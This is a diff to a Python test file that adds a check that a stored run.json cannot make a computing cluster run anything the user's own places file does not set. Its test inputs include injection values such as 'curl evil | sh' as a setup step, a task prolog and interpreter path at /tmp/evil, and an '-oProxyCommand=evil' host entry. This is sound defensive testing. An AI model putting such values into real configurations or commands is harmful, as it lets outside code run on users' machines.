@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 import pytest
 
 from tests.command_line import vlmft
 from vlmft_console.places.chosen import chosen_place
 from vlmft_console.places.place import Hosts, Slurm
-from vlmft_console.places.places_file import load_places, places_file
+from vlmft_console.places.places_file import check_kept, load_places, places_file
 from vlmft_core.errors import VlmftError
 
 JUNO = """\
@@ -51,6 +53,29 @@ def test_options_on_the_command_line_go_before_those_of_the_file() -> None:
         chosen_place("lab", ["time=1"])
     with pytest.raises(VlmftError, match="give one of them"):
         chosen_place("juno", hosts="n1:8")
+
+
+@pytest.mark.parametrize(
+    "kept",
+    [
+        Slurm({"nodes": "1"}, setup=("curl evil | sh",)),
+        Slurm({"nodes": "1"}, srun=("--task-prolog=/tmp/evil",)),
+        Slurm({"nodes": "1"}, prefix=("/tmp/evil",)),
+        Slurm({"nodes": "1"}, python="/tmp/evil"),
+        Slurm({"wrap": "evil"}),
+        Hosts({"-oProxyCommand=evil": 1}),
+        Hosts({}),
+    ],
+)
+def test_a_run_folder_has_nothing_run_that_no_place_of_ones_own_says(kept: Slurm | Hosts) -> None:
+    write(JUNO)
+    with pytest.raises(VlmftError, match=r"^run\.json: "):
+        check_kept(kept, "run.json")
+    check_kept(Slurm({"nodes": "1", "ntasks-per-node": "2"}), "run.json")
+    juno = chosen_place("juno", ["time=2:00:00"])
+    assert isinstance(juno, Slurm)
+    check_kept(juno, "run.json")
+    check_kept(replace(juno, setup=("curl evil | sh",)), "run.json", trust=True)
 
 
 def test_without_a_word_a_run_is_started_here() -> None:
